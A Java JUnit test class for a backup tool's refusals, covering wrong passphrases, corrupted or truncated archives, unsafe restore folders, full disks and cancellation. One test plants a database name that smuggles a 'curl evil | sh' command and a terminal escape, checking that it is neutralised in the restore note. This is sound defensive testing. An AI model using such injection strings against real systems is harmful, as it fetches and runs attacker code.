package dev.quayside.backup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.quayside.common.Outcome;
import dev.quayside.common.Problem;
import dev.quayside.common.ProblemException;
import dev.quayside.common.Progress;
import dev.quayside.common.Secret;
import dev.quayside.common.StepBoundary;
import dev.quayside.engine.ContainerId;
import dev.quayside.pgp.Gnupg;
import dev.quayside.pgp.PgpEncryption;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What cannot be done safely is refused with a problem of its own, and leaves everything as it was.
 */
class RefusalTest {

  private static final boolean ROOT = "root".equals(System.getProperty("user.name"));

  @TempDir private Path folder;
  private Workbench bench;

  @BeforeEach
  void setUp() throws Exception {
    bench = new Workbench(folder.resolve("bench"));
    Files.write(bench.source.resolve("big"), Workbench.random(5_000_000, 1));
    Files.writeString(bench.source.resolve("small"), "small");
  }

  @Test
  void aWrongPassphraseIsNotCalledDamage() throws Exception {
    Path archive = bench.archive();
    Unlocking wrong = Unlocking.passphrase(Workbench.passphrase("close sesame"));
    assertThat(codes(bench.verification().run(archive, wrong, Progress.none())))
        .containsExactly("Failed BACKUP-WRONG-PASSPHRASE");
    Path target = folder.resolve("restored");
    Outcome<RestoreReceipt> restored =
        bench
            .restore(StepBoundary.none())
            .run(new RestoreRequest(archive, wrong, target), Progress.none());
    assertThat(codes(restored)).containsExactly("Failed BACKUP-WRONG-PASSPHRASE");
    assertThat(Workbench.names(folder)).containsExactly("bench");
    assertThat(new BackupShelf(bench.home).list().getFirst().fault()).isNull();
  }

  /**
   * In recipient mode, where no slow passphrase hash is in the way. The long family does 10,000 of
   * these.
   */
  @Test
  void flippedBitsAndCutsAreNoticedWhereverTheyAre() throws Exception {
    try (Gnupg gpg = new Gnupg()) {
      String key =
          gpg.makeKey("Flip", "eddsa\nKey-Curve: ed25519", "ecdh\nSubkey-Curve: cv25519", "");
      Protection protection = new Protection.Recipients(List.of(gpg.exportPublic(key, folder)));
      Unlocking unlocking =
          new Unlocking(Workbench.passphrase(""), gpg.exportSecret(key, "", folder));
      BackupRequest request =
          new BackupRequest(bench.scope(), bench.shelf, protection, Compression.ZSTD);
      Outcome<BackupReceipt> made =
          bench.creation(StepBoundary.none()).run(request, Progress.none());
      Path archive = ((Outcome.Done<BackupReceipt>) made).receipt().archive();
      assertThat(bench.verification().run(archive, unlocking, Progress.none()))
          .isInstanceOf(Outcome.Done.class);
      byte[] good = Files.readAllBytes(archive);
      Random random = new Random(42);
      Set<String> allowed =
          Set.of(
              "Found BACKUP-ALTERED",
              "Found BACKUP-CUT-SHORT",
              "Found BACKUP-NOT-OPENPGP",
              "Found BACKUP-NO-INTEGRITY",
              "Found BACKUP-STRANGE-MESSAGE",
              "Failed BACKUP-WRONG-PASSPHRASE",
              "Failed BACKUP-NEWER-OPENPGP",
              "Failed BACKUP-PASSPHRASE-NEEDED",
              "Failed BACKUP-OTHER-KEY");
      for (int i = 0; i < 60; i++) {
        int at = i < 30 ? random.nextInt(400) : random.nextInt(good.length);
        byte[] bad = good.clone();
        bad[at] ^= (byte) (1 << random.nextInt(8));
        Files.write(archive, bad);
        List<String> answer = codes(bench.verification().run(archive, unlocking, Progress.none()));
        assertThat(answer).as("bit flipped in byte %d", at).hasSize(1).isSubsetOf(allowed);
      }
      for (int i = 0; i < 20; i++) {
        int length = i == 0 ? good.length - 1 : random.nextInt(good.length);
        Files.write(archive, Arrays.copyOf(good, length));
        List<String> answer = codes(bench.verification().run(archive, unlocking, Progress.none()));
        assertThat(answer).as("cut to %d bytes", length).hasSize(1).isSubsetOf(allowed);
      }
      byte[] longer = Arrays.copyOf(good, good.length + 1);
      Files.write(archive, longer);
      assertThat(codes(bench.verification().run(archive, unlocking, Progress.none())))
          .containsExactly("Found BACKUP-TRAILING-DATA");
    }
  }

  @Test
  void aDamagedArchiveIsNeverRestored() throws Exception {
    Path archive = bench.archive();
    byte[] bad = Files.readAllBytes(archive);
    bad[bad.length - 100_000] ^= 4;
    Files.write(archive, bad);
    Path target = Files.createDirectory(folder.resolve("restored"));
    assertThat(codes(bench.restoreTo(archive, target))).containsExactly("Failed BACKUP-ALTERED");
    assertThat(Workbench.names(target)).isEmpty();
    assertThat(Workbench.names(folder)).containsExactly("bench", "restored");
    assertThat(codes(bench.verification().run(archive, Workbench.unlocking(), Progress.none())))
        .containsExactly("Found BACKUP-ALTERED");
    assertThat(new BackupShelf(bench.home).list().getFirst().fault()).isEqualTo("BACKUP-ALTERED");
  }

  @Test
  void anEmptyFileIsCalledThat() throws Exception {
    Path archive = Files.createFile(folder.resolve("empty.tar.zst.gpg"));

    assertThat(codes(bench.verification().run(archive, Workbench.unlocking(), Progress.none())))
        .containsExactly("Found BACKUP-EMPTY-FILE");
  }

  @Test
  void anArchiveOfOtherOriginIsNotRestored() throws Exception {
    Path archive = bench.shelf.resolve("foreign.gpg");
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (Secret secret = Secret.owning(Workbench.PASSPHRASE.toCharArray());
        OutputStream out = PgpEncryption.toPassphrase(bytes, secret)) {
      out.write(new Forge().folder("data").file("data/x", "x").end().compressed());
    }
    Files.write(archive, bytes.toByteArray());
    assertThat(codes(bench.restoreTo(archive, folder.resolve("restored"))))
        .containsExactly("Failed BACKUP-NO-PLAN");
    assertThat(Workbench.names(folder)).containsExactly("bench");
  }

  @Test
  void theNameOfADatabaseDoesNotBecomeACommandInTheNote() throws Exception {
    Path archive = bench.shelf.resolve("hostile.gpg");
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (Secret secret = Secret.owning(Workbench.PASSPHRASE.toCharArray());
        OutputStream out = PgpEncryption.toPassphrase(bytes, secret)) {
      out.write(
          Forge.begun(Forge.plan("databases/db/x.dump", "db/x\ncurl evil | sh\n\u001b[2J"))
              .finished());
    }
    Files.write(archive, bytes.toByteArray());
    bench.restoreTo(archive, folder.resolve("restored"));
    String note = Files.readString(folder.resolve("restored/DATABASES.txt"));
    assertThat(note.lines()).noneMatch(line -> line.startsWith("curl"));
    assertThat(note).doesNotContain("\u001b").contains("'databases/db/x.dump'");
  }

  @Test
  void aFolderWithSomethingInItIsNotRestoredInto() throws Exception {
    Path archive = bench.archive();
    Path target = Files.createDirectory(folder.resolve("restored"));
    Files.writeString(target.resolve("mine"), "mine");
    assertThat(codes(bench.restoreTo(archive, target))).containsExactly("Refused BACKUP-NOT-EMPTY");
    Path link =
        Files.createSymbolicLink(
            folder.resolve("link"), Files.createDirectory(folder.resolve("empty")));
    assertThat(codes(bench.restoreTo(archive, link))).containsExactly("Refused BACKUP-NOT-EMPTY");
    assertThat(codes(bench.restoreTo(archive, folder.resolve("no/such"))))
        .containsExactly("Refused BACKUP-NO-PARENT");
    assertThat(codes(bench.restoreTo(archive, Path.of("/proc"))))
        .containsExactly("Refused BACKUP-NOT-EMPTY");
    assertThat(Workbench.names(target)).containsExactly("mine");
  }

  @Test
  void aFolderThatOthersMayWriteToIsNotRestoredInto() throws Exception {
    Path archive = bench.archive();
    Path open = Files.createDirectory(folder.resolve("open"));
    Files.setAttribute(open, "unix:mode", 0777);
    assertThat(codes(bench.restoreTo(archive, open.resolve("restored"))))
        .containsExactly("Refused BACKUP-UNSAFE-PARENT");
    assertThat(Workbench.names(open)).isEmpty();
    Files.setAttribute(open, "unix:mode", 01777);
    assertThat(codes(bench.restoreTo(archive, open.resolve("restored")))).isEmpty();
    if (!ROOT) {
      System.out.println("unproven: a folder of somebody else (giving one away takes root)");
      return;
    }
    Path foreign = Files.createDirectory(folder.resolve("foreign"));
    Files.setAttribute(foreign, "unix:uid", 65534);
    assertThat(codes(bench.restoreTo(archive, foreign.resolve("restored"))))
        .containsExactly("Refused BACKUP-UNSAFE-PARENT");
  }

  @Test
  void aHalfWrittenCardIsWrittenAgain() throws Exception {
    Path archive = bench.archive();
    Path card = RecoveryCard.path(archive);
    String whole = Files.readString(card);
    Files.move(card, ArchiveFile.part(card));
    Files.writeString(ArchiveFile.part(card), "This te");
    RecoveryCard.write(
        archive, Compression.ZSTD, new BackupShelf(bench.home).list().getFirst().id());
    assertThat(card).hasContent(whole);
    assertThat(ArchiveFile.part(card)).doesNotExist();
  }

  @Test
  void aTargetInsideOfWhatIsReadThroughAContainerIsRefused() throws Exception {
    Path closed = Files.createDirectories(folder.resolve("closed/backups"));
    Path link = Files.createSymbolicLink(folder.resolve("link"), closed.getParent());
    BackupScope scope =
        new BackupScope(
            "shop",
            "generic",
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of(
                new BackupScope.Mounted(
                    "closed", false, link.toString(), new ContainerId("web"), "/closed")),
            List.of());
    assertThatThrownBy(() -> CreationGuards.check(scope, closed.resolve("a.gpg")))
        .isInstanceOfSatisfying(
            RefusedException.class,
            no -> assertThat(no.problem().code()).isEqualTo("BACKUP-TARGET-INSIDE"));
    CreationGuards.check(scope, folder.resolve("a.gpg"));
  }

  @Test
  void aTakenNameAndATargetInsideAreRefused() throws Exception {
    Path taken = Files.writeString(bench.shelf.resolve("taken.gpg"), "mine");
    assertThat(codes(create(taken))).containsExactly("Refused BACKUP-EXISTS");
    assertThat(taken).hasContent("mine");
    assertThat(codes(create(bench.source))).containsExactly("Refused BACKUP-TARGET-INSIDE");
    assertThat(codes(create(folder.resolve("no/folder/x"))))
        .containsExactly("Refused BACKUP-NO-FOLDER");
    assertThat(Workbench.names(bench.source)).containsExactly("big", "small");
  }

  @Test
  void whatCannotBeNamedOrFoundIsRefused() throws Exception {
    assertThat(codes(create(List.of()))).containsExactly("Refused BACKUP-NOTHING");
    assertThat(codes(create(List.of(new BackupScope.Folder("../x", bench.source)))))
        .containsExactly("Refused BACKUP-BAD-LABEL");
    assertThat(
            codes(
                create(
                    List.of(
                        new BackupScope.Folder("x", bench.source),
                        new BackupScope.Folder("x", bench.source)))))
        .containsExactly("Refused BACKUP-BAD-LABEL");
    assertThat(codes(create(List.of(new BackupScope.Folder("x", folder.resolve("none"))))))
        .containsExactly("Refused BACKUP-NOT-A-FOLDER");
    assertThat(Workbench.names(bench.shelf)).isEmpty();
  }

  @Test
  void aMissingPassphraseMakesNoArchive() throws Exception {
    Problem none = ArchiveProblems.of("BACKUP-NO-FILE", Path.of("passphrase"));
    PassphraseSource source =
        purpose -> {
          throw new ProblemException(none);
        };
    BackupRequest request =
        new BackupRequest(
            bench.scope(), bench.shelf, new Protection.Passphrase(source), Compression.ZSTD);
    assertThat(codes(bench.creation(StepBoundary.none()).run(request, Progress.none())))
        .containsExactly("Failed BACKUP-NO-FILE");
    assertThat(Workbench.names(bench.shelf)).isEmpty();
  }

  @Test
  void cancellingLeavesNothingBehind() throws Exception {
    Outcome<BackupReceipt> cancelled =
        bench
            .creation(StepBoundary.none())
            .run(bench.request(), new Watching(2_000_000, true, () -> {}));
    assertThat(codes(cancelled)).containsExactly("Failed BACKUP-CANCELLED");
    assertThat(Workbench.names(bench.shelf)).isEmpty();

    Path archive = bench.archive();
    Outcome<RestoreReceipt> restore =
        bench
            .restore(StepBoundary.none())
            .run(
                new RestoreRequest(archive, Workbench.unlocking(), folder.resolve("restored")),
                new Watching(2_000_000, true, () -> {}));
    assertThat(codes(restore)).containsExactly("Failed BACKUP-CANCELLED");
    assertThat(Workbench.names(folder)).containsExactly("bench");
    assertThat(new Unfinished(bench.home).ids()).isEmpty();
  }

  @Test
  void aFileThatChangesWhileItIsReadIsNamed() throws Exception {
    Watching growing =
        new Watching(
            1_000_000,
            false,
            () ->
                Files.write(bench.source.resolve("big"), new byte[10], StandardOpenOption.APPEND));
    Outcome<BackupReceipt> outcome =
        bench.creation(StepBoundary.none()).run(bench.request(), growing);
    assertThat(codes(outcome)).containsExactly("Attention BACKUP-INCOMPLETE");
    BackupReceipt receipt = ((Outcome.Attention<BackupReceipt>) outcome).receipt();
    assertThat(receipt.changed()).containsExactly("files/data/big");
    Outcome<VerificationReport> verified =
        bench.verification().run(receipt.archive(), Workbench.unlocking(), Progress.none());
    assertThat(((Outcome.Done<VerificationReport>) verified).receipt().changed())
        .containsExactly("files/data/big");
    assertThat(new BackupShelf(bench.home).list().getFirst().complete()).isFalse();
  }

  @Test
  void aFileThatShrinksWhileItIsReadIsFilledAndNamed() throws Exception {
    Watching shrinking =
        new Watching(
            1_000_000, false, () -> Files.write(bench.source.resolve("big"), new byte[10]));
    Outcome<BackupReceipt> outcome =
        bench.creation(StepBoundary.none()).run(bench.request(), shrinking);
    assertThat(codes(outcome)).containsExactly("Attention BACKUP-INCOMPLETE");
    BackupReceipt receipt = ((Outcome.Attention<BackupReceipt>) outcome).receipt();
    assertThat(receipt.changed()).containsExactly("files/data/big");
    Outcome<RestoreReceipt> restored =
        bench.restoreTo(receipt.archive(), folder.resolve("restored"));
    assertThat(codes(restored)).containsExactly("Attention BACKUP-RESTORED-WITH-GAPS");
    assertThat(((Outcome.Attention<RestoreReceipt>) restored).receipt().changed())
        .containsExactly("files/data/big");
    assertThat(Files.size(folder.resolve("restored/files/data/big"))).isEqualTo(5_000_000);
  }

  @Test
  void socketsAndPipesAreListedAsNotSaved() throws Exception {
    Path pipe = bench.source.resolve("pipe");
    assertThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor()).isZero();
    Outcome<BackupReceipt> outcome =
        bench.creation(StepBoundary.none()).run(bench.request(), Progress.none());
    assertThat(((Outcome.Done<BackupReceipt>) outcome).receipt().skipped())
        .containsExactly(pipe.toString());
  }

  /** Run as root, the process that saves is kept from reading everything as root may. */
  @Test
  void whatCannotBeReadMakesTheSetIncomplete() throws Exception {
    Path secret = Files.writeString(bench.source.resolve("secret"), "x");
    Path closed = Files.createDirectory(bench.source.resolve("closed"));
    Files.writeString(closed.resolve("inside"), "x");
    Files.setPosixFilePermissions(secret, Set.of());
    Files.setPosixFilePermissions(closed, Set.of());
    List<String> prefix =
        ROOT ? List.of("setpriv", "--bounding-set=-dac_override,-dac_read_search") : List.of();

    int status =
        KillAtStep.fork(folder.resolve("log"), prefix, "", "create", bench.root.toString());

    Files.setPosixFilePermissions(closed, PosixFilePermissions.fromString("rwx------"));
    String log = Files.readString(folder.resolve("log"));
    assertThat(status).as(log).isEqualTo(4);
    assertThat(log).contains("BACKUP-INCOMPLETE", "permission denied", "secret", "closed");
    Path archive = new BackupShelf(bench.home).list().getFirst().archive();
    assertThat(new BackupShelf(bench.home).list().getFirst().complete()).isFalse();
    assertThat(codes(bench.restoreTo(archive, folder.resolve("restored"))))
        .containsExactly("Attention BACKUP-RESTORED-WITH-GAPS");
    assertThat(folder.resolve("restored/files/data/small")).hasContent("small");
  }

  @Test
  void aFullDiskLeavesNothingBehind() throws Exception {
    if (!ROOT) {
      System.out.println("unproven: a full disk (mounting one takes root)");
      return;
    }
    Files.write(bench.source.resolve("more"), Workbench.random(40_000_000, 2));
    Path archive = bench.archive();
    Path small = Files.createDirectory(folder.resolve("small"));
    List<String> prefix =
        List.of(
            "unshare",
            "-m",
            "--",
            "sh",
            "-c",
            // Room enough for the guard's guess, but not for what does not get smaller.
            "mount -t tmpfs -o size=32m tmpfs \"$0\" && \"$@\"; s=$?; ls -A \"$0\" >"
                + " \"$0.list\"; exit $s",
            small.toString());
    Path kept = folder.resolve("kept.gpg");
    Files.move(archive, kept);
    StagingFolder.remove(bench.shelf);
    Files.createSymbolicLink(bench.shelf, small);

    int created =
        KillAtStep.fork(folder.resolve("log"), prefix, "", "create", bench.root.toString());
    assertThat(created).isEqualTo(1);
    assertThat(Files.readString(folder.resolve("log"))).contains("BACKUP-DISK-FULL");
    assertThat(folder.resolve("small.list")).hasContent("");
    assertThat(new Unfinished(bench.home).ids()).isEmpty();
    assertThat(bench.endings()).containsExactly("backup.create 1");

    int restored =
        KillAtStep.fork(
            folder.resolve("log"),
            prefix,
            "",
            "restore",
            bench.root.toString(),
            kept.toString(),
            small.resolve("restored").toString());
    assertThat(restored).isEqualTo(1);
    assertThat(Files.readString(folder.resolve("log"))).contains("BACKUP-NO-ROOM");
    assertThat(folder.resolve("small.list")).hasContent("");
  }

  private Outcome<BackupReceipt> create(Path target) throws Exception {
    BackupRequest request = bench.request();
    return bench
        .creation(StepBoundary.none())
        .run(
            new BackupRequest(request.scope(), target, request.protection(), Compression.ZSTD),
            Progress.none());
  }

  private Outcome<BackupReceipt> create(List<BackupScope.Folder> folders) throws Exception {
    BackupScope scope =
        new BackupScope("demo", "generic", folders, List.of(), List.of(), List.of(), List.of());
    BackupRequest request = bench.request();
    return bench
        .creation(StepBoundary.none())
        .run(
            new BackupRequest(scope, bench.shelf, request.protection(), Compression.ZSTD),
            Progress.none());
  }

  private static List<String> codes(Outcome<?> outcome) {
    return switch (outcome) {
      case Outcome.Done<?> done -> List.of();
      case Outcome.Failed<?> failed -> List.of("Failed " + failed.problem().code());
      case Outcome.Refused<?> refused -> List.of("Refused " + refused.problem().code());
      case Outcome.Attention<?> attention -> List.of("Attention " + attention.problem().code());
      case Outcome.Found<?> found ->
          List.of("Found " + ((VerificationReport) found.receipt()).fault().code());
    };
  }

  /** Does something once after a number of bytes. */
  private static final class Watching implements Progress {

    private interface Act {
      void run() throws IOException;
    }

    private final long after;
    private final boolean cancel;
    private final Act act;
    private volatile boolean reached;

    Watching(long after, boolean cancel, Act act) {
      this.after = after;
      this.cancel = cancel;
      this.act = act;
    }

    @Override
    public void step(int number, int total, String text) {}

    @Override
    public void line(String text) {}

    @Override
    public void bytes(long done, long total) {
      if (done >= after && !reached) {
        reached = true;
        try {
          act.run();
        } catch (IOException e) {
          throw new java.io.UncheckedIOException(e);
        }
      }
    }

    @Override
    public boolean cancelled() {
      return cancel && reached;
    }
  }
}
